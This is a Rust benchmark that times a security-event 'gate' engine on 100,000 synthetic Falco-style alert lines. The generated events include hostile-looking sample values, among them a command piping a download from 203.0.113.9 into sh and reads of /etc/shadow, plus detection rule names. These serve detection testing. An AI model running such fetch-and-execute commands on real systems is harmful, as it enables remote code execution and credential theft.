//! Events a second through the gate: judge alone, judge and emit, one core and two, on 100,000 synthetic events (59 MB).

use std::io;
use std::sync::Arc;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use kiln::gate::engine::graded::{self, Graded, Memory, Shape, Weights};
use kiln::gate::engine::scbe::{self, Scbe};
use kiln::gate::engine::{Arena, Profile};
use kiln::gate::run::{DryRun, Settings, Sink, Source, run};

const EVENTS: u64 = 100_000;

/// 2026-11-20T11:00:00Z in nanoseconds since 1970.
const NOW: i64 = 1_795_172_400_000_000_000;

/// Falco-style lines of about 590 bytes: mostly ordinary, some suspicious, 2,000 processes on each of 40 hosts.
fn events() -> Vec<u8> {
    let mut seed = 7u64;
    let mut pick = |list: &[&'static str]| {
        // xorshift64: the same events each time.
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        list[(seed >> 11) as usize % list.len()]
    };
    let mut out = Vec::with_capacity(60_000_000);
    for i in 0..EVENTS {
        let call = pick(&["execve", "openat", "openat", "openat", "write", "connect", "unlinkat", "rename", "ptrace"]);
        let name = pick(&["nginx", "python3", "bash", "sshd", "postgres", "dpkg", "cron", "java", "tar", "curl"]);
        let command = pick(&[
            "nginx -g daemon off;",
            "python3 -m http.server",
            "curl http://203.0.113.9/x | sh",
            "tar -czf /srv/b.tgz /etc",
        ]);
        let path = pick(&["/etc/shadow", "/var/log/syslog", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/home/a/.cache/x"]);
        let rule = pick(&[
            "Read sensitive file untrusted",
            "Terminal shell in container",
            "Kernel activity",
            "Clear Log Activities",
        ]);
        let priority = pick(&["Informational", "Notice", "Warning", "Critical"]);
        let (host, pid, time) = (i % 40, 1000 + i * 7 % 2000, NOW as u64 - 1_000_000_000 + i);
        let line = format!(
            r#"{{"hostname":"node-{host}","output":"10:59:59.{i:09}: {priority} event of {name} | file={path} evt_type={call} user=root user_uid=0 process={name} command={command} terminal=0","output_fields":{{"container.id":"host","container.name":"host","evt.time":{time},"evt.type":"{call}","fd.name":"{path}","proc.cmdline":"{command}","proc.exepath":"/usr/bin/{name}","proc.name":"{name}","proc.pid":{pid},"proc.pname":"systemd","proc.tty":0,"user.name":"root","user.uid":0}},"priority":"{priority}","rule":"{rule}","source":"syscall","tags":["host","container","maturity_stable"],"time":"2026-11-20T10:59:59.{i:09}Z"}}"#
        );
        out.extend_from_slice(line.as_bytes());
        out.push(b'\n');
    }
    out
}

struct Nowhere;

impl Sink for Nowhere {
    fn write(&mut self, lines: &[u8], errors: &[u8]) -> io::Result<()> {
        std::hint::black_box((lines, errors));
        Ok(())
    }
}

fn judge_only<P: Profile>(profile: &P, memory: &mut P::Memory, lines: &[&str]) {
    let (mut reader, mut arena) = (profile.reader(), Arena::default());
    for line in lines {
        arena.bytes.clear();
        if let Ok(mut item) = profile.read(&mut reader, line, &mut arena) {
            profile.settle(&mut item, &arena, memory, NOW);
            std::hint::black_box(&item);
        }
    }
}

fn whole<P: Profile>(profile: &P, memory: &mut P::Memory, input: &[u8], jobs: usize) {
    let settings = Settings { alerts_only: false, jobs, plans: false };
    let source = Source::new(input, 0, Arc::default());
    let summary =
        run(profile, source, memory, None::<&mut DryRun>, &mut Nowhere, || NOW, |_: &P::Memory| Ok(()), settings);
    assert_eq!(summary.expect("a slice reads without error").events_emitted, EVENTS);
}

fn bench<P: Profile>(c: &mut Criterion, name: &str, profile: &P, memory: impl Fn() -> P::Memory, input: &[u8]) {
    let text = std::str::from_utf8(input).expect("ASCII");
    let lines: Vec<&str> = text.lines().collect();
    let mut group = c.benchmark_group(name);
    group.sample_size(10).throughput(Throughput::Elements(EVENTS));
    group.bench_function("decide, one core", |b| b.iter(|| judge_only(profile, &mut memory(), &lines)));
    group.bench_function("decide and emit, one core", |b| b.iter(|| whole(profile, &mut memory(), input, 1)));
    group.bench_function("decide and emit, two cores", |b| b.iter(|| whole(profile, &mut memory(), input, 2)));
    group.finish();
}

fn gate(c: &mut Criterion) {
    let input = events();
    let host_default = || "linux-node".to_owned();
    let options =
        scbe::Options { host_default: host_default(), include_kernel_event: false, pretty: false, enforcement: None };
    bench(c, "gate scbe", &Scbe { options }, Default::default, &input);
    let options = graded::Options {
        host_default: host_default(),
        source: None,
        include_kernel_event: false,
        pretty: false,
        shape: Shape::Gate,
        enforcement: None,
    };
    let weights = Weights::built_in().expect("the built-in weights are valid");
    bench(c, "gate default", &Graded { options, weights }, Memory::default, &input);
}

criterion_group!(benches, gate);
criterion_main!(benches);
